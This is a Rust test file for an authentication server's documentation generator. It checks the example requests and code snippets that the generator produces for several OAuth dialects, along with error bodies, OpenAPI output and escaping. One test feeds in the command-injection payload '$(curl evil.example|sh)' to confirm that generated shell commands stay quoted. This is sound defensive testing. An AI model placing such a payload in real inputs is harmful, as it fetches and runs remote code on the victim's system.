//! Documents say what the dialect reads and writes.

use http::Request;

use super::{Call, Language, Payload, Who, authorization_url, calls, openapi, pieces, plain, refusals, verify};
use crate::{
    RealmId, Timestamp,
    dialect::{Dialect, Found},
    model::{ClientAuthMethod, Realm, RealmConfig, Status},
    request::{Credentials, Grant, TokenRequest},
    settings::SettingsPatch,
};

fn realm(dialect: &str) -> Realm {
    let config = RealmConfig {
        id: RealmId(uuid::Uuid::from_u128(1)),
        name: dialect.into(),
        title: None,
        issuer: None,
        dialect: dialect.into(),
        audience: None,
        scopes: Vec::new(),
        settings: SettingsPatch::default(),
        status: Status::Active,
        not_before: Timestamp::default(),
        created_at: Timestamp::default(),
        version: 0,
    };
    Realm::new(config, format!("https://auth.example/{dialect}"), Dialect::built_in(dialect).unwrap())
}

/// The request that a program of a document sends, read by the realm's dialect.
fn read(realm: &Realm, call: &Call) -> TokenRequest {
    use base64::{Engine, engine::general_purpose::STANDARD};
    let mut request = Request::builder().method(call.method.clone()).uri(&call.url);
    for (name, value) in &call.headers {
        request = request.header(name, plain(value));
    }
    if let Some((id, secret)) = &call.basic {
        request = request.header("Authorization", format!("Basic {}", STANDARD.encode(format!("{}:{}", plain(id), plain(secret)))));
    }
    let pairs = || call.body.pairs().iter().map(|(name, value)| (name.clone(), plain(value)));
    let (kind, body) = match &call.body {
        Payload::None => (None, String::new()),
        Payload::Form(_) => {
            (Some("application/x-www-form-urlencoded"), url::form_urlencoded::Serializer::new(String::new()).extend_pairs(pairs()).finish())
        }
        Payload::Json(_) => {
            (Some("application/json"), serde_json::Value::Object(pairs().map(|(name, value)| (name, value.into())).collect()).to_string())
        }
    };
    if let Some(kind) = kind {
        request = request.header("Content-Type", kind);
    }
    let parts = request.body(()).unwrap().into_parts().0;
    let path = parts.uri.path().strip_prefix(&format!("/{}", realm.config.name)).unwrap().to_owned();
    let Found::Here(standing) = realm.dialect.map.find(&parts.method, &path) else { panic!("nothing stands at {path}") };
    realm.dialect.token_route(standing).unwrap().decode(&realm.dialect, &parts, body.as_bytes()).unwrap()
}

#[test]
fn every_request_of_a_document_is_read_as_the_grant_that_it_is_for() {
    for name in Dialect::BUILT_IN {
        let realm = realm(name);
        let who = Who::anybody(&realm);
        let calls = calls(&realm, &who);
        assert!(!calls.grants.is_empty(), "{name}");
        for call in calls.all().filter(|call| call.grant.is_some()) {
            let request = read(&realm, call);
            assert_eq!(Some(request.grant.grant_type()), call.grant, "{name}");
            match &request.credentials {
                Credentials::FromToken => assert_eq!((*name, call.id), ("volt", "refresh")),
                credentials => assert_eq!(credentials.client_id(), Some(super::CLIENT_ID), "{name} {}", call.id),
            }
            if let Grant::Password { username, .. } = &request.grant {
                assert_eq!(username, super::USERNAME);
            }
        }
    }
}

#[test]
fn every_answer_of_a_document_is_read_as_tokens() {
    for name in Dialect::BUILT_IN {
        let realm = realm(name);
        for call in calls(&realm, &Who::anybody(&realm)).all().filter(|call| call.grant.is_some()) {
            let route = realm.dialect.route_for(call.grant.unwrap()).unwrap().token.as_deref().unwrap();
            let answer = route.decode_answer(call.answer.body.as_bytes()).unwrap();
            if let Some(lifetime) = answer.expires_in {
                assert_eq!(lifetime, realm.settings.access_token_lifetime, "{name}");
            }
        }
    }
}

#[test]
fn dialects_show_their_own_call_first() {
    let first = |name: &str| {
        let realm = realm(name);
        let call = calls(&realm, &Who::anybody(&realm)).grants.remove(0);
        (call.id, call.url.strip_prefix(&realm.issuer).unwrap().to_owned(), names(call.body.pairs()))
    };
    let with_secret = vec!["grant_type", "client_id", "client_secret"];
    let more = |names: &[&'static str]| [with_secret.as_slice(), names].concat();
    assert_eq!(first("volt"), ("password", "/oauth".into(), strings(&more(&["username", "password"]))));
    assert_eq!(first("volt-time"), ("code", "/oauth/token".into(), strings(&more(&["code", "redirect_uri"]))));
    assert_eq!(first("voipex"), ("password", "/token".into(), strings(&["grant_type", "client_id", "username", "password"])));
    assert_eq!(first("violet"), ("password", "/v1/login".into(), strings(&["username", "password"])));
    assert_eq!(first("depotfinity"), ("client-credentials", "/oauth2/token".into(), strings(&["grant_type"])));
    assert_eq!(first("standard").0, "code");
}

fn names(pairs: &[(String, String)]) -> Vec<String> {
    pairs.iter().map(|(name, _)| name.clone()).collect()
}

fn strings(names: &[&str]) -> Vec<String> {
    names.iter().map(|name| (*name).to_owned()).collect()
}

#[test]
fn errors_have_the_status_and_the_body_of_the_dialect() {
    let of = |name: &str, error: &str| {
        let found = refusals(&realm(name)).into_iter().find(|refusal| refusal.error == error).unwrap();
        (found.status, serde_json::from_str::<serde_json::Value>(&found.body).unwrap())
    };
    assert_eq!(of("standard", "invalid_client").0, 401);
    assert_eq!(of("depotfinity", "invalid_client").0, 403);
    let (status, body) = of("violet", "invalid_token");
    assert_eq!((status, &body["message"], &body["error_code"]), (401, &"Token has expired".into(), &11.into()));
}

#[test]
fn values_that_applications_bring_stay_values_in_every_language() {
    let hostile = "a'b\"c`d$e\\f{g}\n#";
    let realm = realm("volt");
    let who = Who { username: hostile.into(), ..Who::anybody(&realm) };
    let call = calls(&realm, &who).grants.remove(0);
    let shown = |language: Language| plain(&language.write(&call));
    assert!(shown(Language::Curl).contains("--data-urlencode 'username=a'\\''b\"c`d$e\\f{g}\n#'"), "{}", shown(Language::Curl));
    for language in [Language::NodeFetch, Language::NodeAxios, Language::PythonRequests, Language::Go] {
        assert!(shown(language).contains("\"a'b\\\"c`d$e\\\\f{g}\\n#\""), "{}", shown(language));
    }
    assert!(shown(Language::Rust).contains("\"a'b\\\"c`d$e\\\\f{g}\\u{a}#\""), "{}", shown(Language::Rust));
}

#[test]
fn what_applications_and_users_are_called_is_no_command_of_a_shell() {
    let hostile = "$(curl evil.example|sh)";
    for dialect in Dialect::BUILT_IN {
        let realm = realm(dialect);
        let mut who = Who::anybody(&realm);
        (who.username, who.client_id, who.redirect_uri) = (hostile.into(), hostile.into(), hostile.into());
        for call in calls(&realm, &who).all() {
            let command = plain(&Language::Curl.write(call));
            assert_eq!(unquoted(&command), Vec::<String>::new(), "{command}");
            if matches!(call.body, Payload::Form(_)) {
                let raw = plain(&Language::Http.write(call));
                assert!(!raw.lines().last().unwrap().contains("$("), "{raw}");
            }
        }
        assert!(!authorization_url(&realm, &who).contains("$("), "{}", authorization_url(&realm, &who));
    }
}

/// What a POSIX shell would run or fill in, besides the variables that the reader sets.
fn unquoted(command: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = command;
    while let Some(at) = rest.find(['\'', '\\', '$', '`']) {
        let (letter, after) = (&rest[at..=at], &rest[at + 1..]);
        rest = match letter {
            "'" => after.split_once('\'').unwrap().1,
            "\\" => &after[1..],
            _ => {
                if !super::PLACEHOLDERS.iter().any(|variable| rest[at..].starts_with(variable)) {
                    found.push(rest[at..].to_owned());
                }
                after
            }
        };
    }
    found
}

#[test]
fn nothing_in_a_program_is_hidden_or_turned_around() {
    let realm = realm("volt");
    let mut who = Who::anybody(&realm);
    who.username = "a\u{202e}b\u{2028}c\u{feff}".into();
    let call = calls(&realm, &who).grants.remove(0);
    for language in [Language::NodeFetch, Language::NodeAxios, Language::PythonHttpClient, Language::PythonRequests, Language::Go] {
        assert!(language.write(&call).contains("a\\u202eb\\u2028c\\ufeff"), "{}", language.write(&call));
    }
    assert!(Language::Rust.write(&call).contains("a\\u{202e}b\\u{2028}c\\u{feff}"));
}

#[test]
fn secrets_are_left_to_the_reader() {
    let realm = realm("violet");
    let who = Who { methods: Some(vec![ClientAuthMethod::Header]), client_id: "10042".into(), ..Who::anybody(&realm) };
    let call = calls(&realm, &who).grants.remove(0);
    let own: Vec<_> = pieces(&Language::Curl.write(&call)).into_iter().filter(|piece| piece.own).map(|piece| piece.text).collect();
    assert_eq!(own, ["10042", "YOUR_CLIENT_SECRET", "YOUR_USERNAME", "YOUR_PASSWORD"]);
}

#[test]
fn the_openapi_document_has_every_path_and_its_references_resolve() {
    for name in Dialect::BUILT_IN {
        let realm = realm(name);
        let document = openapi(&realm, &calls(&realm, &Who::anybody(&realm)));
        for route in &realm.dialect.routes {
            let item = &document["paths"][&route.path];
            assert!(item.is_object(), "{name} {}", route.path);
        }
        let schemes = document["components"]["securitySchemes"].as_object().unwrap();
        for operation in document["paths"].as_object().unwrap().values().flat_map(|item| item.as_object().unwrap().values()) {
            assert!(operation["responses"].is_object());
            for way in operation["security"].as_array().unwrap() {
                assert!(way.as_object().unwrap().keys().all(|scheme| schemes.contains_key(scheme)), "{name}: {way}");
            }
        }
    }
}

#[test]
fn tokens_are_verified_by_what_the_realm_signs_with() {
    let realm = realm("standard");
    for language in [Language::NodeFetch, Language::PythonHttpClient, Language::Rust, Language::Go] {
        let program = verify(&realm, language).unwrap();
        assert!(program.contains("ES256") && program.contains("https://auth.example/standard/jwks"), "{program}");
    }
}
